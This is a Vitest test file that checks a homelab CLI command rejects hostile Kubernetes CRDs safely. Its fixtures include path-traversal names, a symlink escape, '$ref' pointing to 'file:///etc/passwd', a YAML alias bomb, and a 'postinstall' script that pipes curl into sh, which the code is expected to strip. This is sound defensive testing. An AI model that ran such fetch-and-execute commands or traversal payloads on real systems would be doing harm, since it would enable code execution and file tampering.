import * as fs from 'node:fs';
import * as path from 'node:path';
import jsyaml from 'js-yaml';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { main } from '../../tools/homelab/src/cli/main';
import { validatePaths } from '../../tools/homelab/src/validate/paths';
import { diskFiles, makeTempDir, removeDir } from '../support/workspace';

/**
 * `homelab schemas add` treats every CRD as hostile: the docs tell users to run it on downloaded
 * files. Each case runs the command's real boundary (main) in a workspace inside a folder that
 * also holds a file outside the workspace; a refusal is exit 2, one line on stderr, and not one
 * byte written or changed anywhere in that folder.
 */

type Json = any;

const widget = (): Json => ({
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'widgets.example.com' },
  spec: {
    group: 'example.com',
    names: { kind: 'Widget', plural: 'widgets' },
    scope: 'Namespaced',
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        schema: {
          openAPIV3Schema: {
            type: 'object',
            description: 'a widget',
            properties: {
              spec: {
                type: 'object',
                required: ['size'],
                'x-kubernetes-validations': [{ rule: 'self.size > 0' }],
                properties: {
                  size: { type: 'integer', minimum: 0, maximum: 10, exclusiveMaximum: true, default: 1 },
                  port: { 'x-kubernetes-int-or-string': true, anyOf: [{ type: 'integer' }, { type: 'string' }] },
                  tags: { type: 'array', 'x-kubernetes-list-type': 'set', items: { type: 'string' } },
                  template: { type: 'object', 'x-kubernetes-embedded-resource': true, properties: { spec: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } } },
                  scripts: { type: 'string' },
                },
              },
            },
          },
        },
      },
    ],
  },
});

/** Runs the command in-process: exit code and what it printed. */
function homelab(args: string[], cwd: string): { status: number; stdout: string; stderr: string } {
  let stdout = '';
  let stderr = '';
  const status = main(args, { cwd, out: (t) => (stdout += t), err: (t) => (stderr += t) });
  return { status, stdout, stderr };
}

describe('homelab schemas add on hostile CRDs', () => {
  let outer: string;
  let ws: string;
  const writeCrd = (docs: Json[] | string, name = 'crd.yaml') =>
    fs.writeFileSync(path.join(ws, name), typeof docs === 'string' ? docs : docs.map((d) => jsyaml.dump(d)).join('---\n'));

  beforeEach(() => {
    outer = makeTempDir('schemas-add');
    ws = path.join(outer, 'ws');
    fs.mkdirSync(path.join(outer, 'outside'), { recursive: true });
    fs.mkdirSync(ws);
    fs.writeFileSync(path.join(ws, 'homelab.yaml'), '# a workspace root\n');
    fs.writeFileSync(path.join(ws, 'package.json'), '{ "name": "victim", "scripts": {} }\n');
    fs.writeFileSync(path.join(outer, 'outside', 'keep.json'), '{}\n');
  });
  afterEach(() => removeDir(outer));

  /** Refused in one line naming the reason, with nothing written anywhere. */
  function expectRefused(message: RegExp, files = ['crd.yaml']): void {
    const before = diskFiles(outer);
    const r = homelab(['schemas', 'add', ...files], ws);
    expect(r.stderr).toMatch(message);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
    expect(r.status).toBe(2);
    expect(r.stdout).toBe('');
    expect(diskFiles(outer)).toEqual(before);
    expect(fs.existsSync(path.join(ws, 'schemas'))).toBe(false);
  }

  it.each([
    ['version', (c: Json) => (c.spec.versions[0].name = '/../../../../package'), /spec\.versions\[0\]\.name "\/\.\.\/\.\.\/\.\.\/\.\.\/package" is not a version name/],
    ['version with a slash', (c: Json) => (c.spec.versions[0].name = 'v1/../../../outside/x'), /spec\.versions\[0\]\.name .* is not a version name/],
    ['version with a newline', (c: Json) => (c.spec.versions[0].name = 'v1\n../x'), /spec\.versions\[0\]\.name "v1\\n\.\.\/x" is not a version name/],
    ['group', (c: Json) => (c.spec.group = '../../outside'), /spec\.group "\.\.\/\.\.\/outside" is not an API group/],
    ['group with a slash', (c: Json) => (c.spec.group = 'example.com/../../..'), /spec\.group .* is not an API group/],
    ['group without a dot', (c: Json) => (c.spec.group = 'example'), /spec\.group "example" is not an API group/],
    ['kind', (c: Json) => (c.spec.names.kind = '../../../package'), /spec\.names\.kind .* is not a kind/],
    ['kind with a slash', (c: Json) => (c.spec.names.kind = 'Widget/../../../package'), /spec\.names\.kind .* is not a kind/],
    ['plural', (c: Json) => (c.spec.names.plural = '../../outside'), /spec\.names\.plural .* is not a plural/],
    ['group that is not a string', (c: Json) => (c.spec.group = { $ne: 1 }), /spec\.group .* is not an API group/],
  ])('refuses path traversal through the %s', (_what, change, message) => {
    const crd = widget();
    change(crd);
    writeCrd([crd]);
    expectRefused(message);
  });

  it.each([
    ['a $ref to a remote URL', { $ref: 'https://schemas.example.org/evil.json' }, /\.properties\.spec\.\$ref: Kubernetes refuses "\$ref"/],
    ['a $ref to a file URL', { $ref: 'file:///etc/passwd' }, /Kubernetes refuses "\$ref"/],
    ['definitions', { type: 'object', definitions: { x: { type: 'string' } } }, /Kubernetes refuses "definitions"/],
    ['an id', { type: 'object', id: 'https://schemas.example.org/x' }, /Kubernetes refuses "id"/],
    ['type null', { type: 'null' }, /\.properties\.spec\.type has a value Kubernetes does not accept there \("null"\)/],
    ['an invalid pattern', { type: 'string', pattern: '(' }, /\.pattern has a value Kubernetes does not accept there/],
    ['a negative maxLength', { type: 'string', maxLength: -1 }, /\.maxLength has a value/],
    ['items as a list', { type: 'array', items: [{ type: 'string' }] }, /\.items must be a schema object/],
    ['properties that are not a map', { type: 'object', properties: ['a'] }, /\.properties must map field names to schemas/],
  ])('refuses a schema with %s', (_what, spec, message) => {
    const crd = widget();
    crd.spec.versions[0].schema.openAPIV3Schema.properties.spec = spec;
    writeCrd([crd]);
    expectRefused(message);
  });

  it("keeps a pattern in Go-only syntax out of the schema instead of refusing a real CRD (the API server checks it)", () => {
    const crd = widget();
    crd.spec.versions[0].schema.openAPIV3Schema.properties.spec = {
      type: 'object',
      properties: { month: { type: 'string', pattern: '^((?i)january|february)$' }, day: { type: 'string', pattern: '^[0-9]+$' } },
    };
    writeCrd([crd]);
    const r = homelab(['schemas', 'add', 'crd.yaml'], ws);

    expect(r.status, r.stderr).toBe(0);
    const spec = JSON.parse(fs.readFileSync(path.join(ws, 'schemas/custom/example.com/widget_v1.json'), 'utf8')).properties.spec;
    expect(spec.properties.month).toEqual({ type: 'string' });
    expect(spec.properties.day.pattern).toBe('^[0-9]+$');
  });

  it('writes nothing when one CRD of several files is refused', () => {
    const bad = widget();
    bad.metadata.name = 'gadgets.example.com';
    bad.spec.names = { kind: 'Gadget', plural: 'gadgets' };
    bad.spec.versions.push({ name: 'v2/../../../../package', served: true, schema: bad.spec.versions[0].schema });
    writeCrd([widget()], 'good.yaml');
    writeCrd([widget(), bad], 'crd.yaml');
    expectRefused(/CRD "gadgets\.example\.com": spec\.versions\[1\]\.name/, ['good.yaml', 'crd.yaml']);
  });

  it('refuses to write through a symbolic link that leaves schemas/custom', () => {
    fs.mkdirSync(path.join(ws, 'schemas/custom'), { recursive: true });
    fs.symlinkSync(path.join(outer, 'outside'), path.join(ws, 'schemas/custom/example.com'));
    writeCrd([widget()]);
    const before = diskFiles(outer);
    const r = homelab(['schemas', 'add', 'crd.yaml'], ws);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^homelab: Widget \(example\.com\/v1\) would be written outside schemas\/custom; refusing to write it\n$/);
    expect(fs.readdirSync(path.join(outer, 'outside'))).toEqual(['keep.json']);
    expect(diskFiles(outer)).toEqual(before);
  });

  it.each([
    ['larger than 8 MiB', () => `${'# padding\n'.repeat(900_000)}${jsyaml.dump(widget())}`, /crd\.yaml:1:1: .* MiB is over the 8 MiB limit/],
    ['nested 300 levels deep', () => `${'['.repeat(300)}${']'.repeat(300)}\n`, /crd\.yaml:\d+:\d+: nesting deeper than 200 levels/],
    [
      'an alias bomb',
      () => {
        const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
        for (let i = 1; i <= 9; i++) lines.push(`a${i}: &a${i} [${Array(9).fill(`*a${i - 1}`).join(',')}]`);
        return `${lines.join('\n')}\n`;
      },
      /crd\.yaml:1:1: document 1 expands to more than 1,000,000 nodes/,
    ],
    ['binary', () => '\u0000\u0001ELF', /crd\.yaml:1:1: NUL byte at offset 0/],
  ])('refuses a file %s, quickly', (_what, text, message) => {
    writeCrd(text());
    const start = Date.now();
    expectRefused(message);
    expect(Date.now() - start).toBeLessThan(5000);
  });

  it('keeps only the keywords that change validation, and the schema validates as the API server would', () => {
    const crd = widget();
    crd.spec.versions[0].schema.openAPIV3Schema.scripts = { postinstall: 'curl https://example.org | sh' };
    crd.spec.versions[0].schema.openAPIV3Schema.properties.spec['$comment'] = 'not kept';
    writeCrd([crd]);
    const r = homelab(['schemas', 'add', 'crd.yaml'], ws);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe('wrote schemas/custom/example.com/widget_v1.json\n');
    expect(Object.keys(diskFiles(outer)).sort()).toEqual(['outside/keep.json', 'ws/crd.yaml', 'ws/homelab.yaml', 'ws/package.json', 'ws/schemas/custom/example.com/widget_v1.json']);

    const written = JSON.parse(fs.readFileSync(path.join(ws, 'schemas/custom/example.com/widget_v1.json'), 'utf8'));
    // Every key of every schema node is a JSON-schema keyword (field names live only under `properties`).
    const KEYWORDS = new Set(['type', 'properties', 'required', 'additionalProperties', 'items', 'enum', 'anyOf', 'allOf', 'oneOf', 'not', 'minimum', 'maximum', 'exclusiveMaximum', 'exclusiveMinimum', 'uniqueItems', 'maxLength', 'minLength', 'pattern']);
    const walk = (node: Json, where: string) => {
      for (const [key, value] of Object.entries(node)) {
        expect(KEYWORDS.has(key), `${where}.${key}`).toBe(true);
        if (key === 'properties') for (const [name, sub] of Object.entries(value as Json)) walk(sub, `${where}.properties.${name}`);
        else if (key === 'items' || key === 'not' || (key === 'additionalProperties' && typeof value === 'object')) walk(value, `${where}.${key}`);
        else if (key === 'anyOf' || key === 'allOf' || key === 'oneOf') (value as Json[]).forEach((sub, i) => walk(sub, `${where}.${key}[${i}]`));
      }
    };
    const { $comment, ...root } = written;
    expect($comment).toMatch(/^Widget \(example\.com\/v1\) from CRD widgets\.example\.com/);
    walk(root, 'schema');
    expect(JSON.stringify(written)).not.toMatch(/postinstall|x-kubernetes|description|default/);

    const doc = (spec: string) => `apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n${spec}`;
    const cases: [string, string[]][] = [
      ['  size: 9\n  port: http\n  tags: [a, b]\n  template: { apiVersion: v1, kind: Pod, metadata: { name: p }, spec: { any: thing } }\n  scripts: ok\n', []],
      ['  size: 10\n', ['schema/invalid']],
      ['  size: 1\n  tags: [a, a]\n', ['schema/invalid']],
      ['  size: 1\n  sise: 2\n', ['schema/unknown-field']],
      ['  port: 80\n', ['schema/missing-field']],
    ];
    for (const [i, [spec, rules]] of cases.entries()) {
      fs.writeFileSync(path.join(ws, `w${i}.yaml`), doc(spec));
      const { findings } = validatePaths([`w${i}.yaml`], { cwd: ws, checks: new Set(['parse', 'schema']) });
      expect(findings.map((f) => f.rule), spec).toEqual(rules);
    }
  });
});
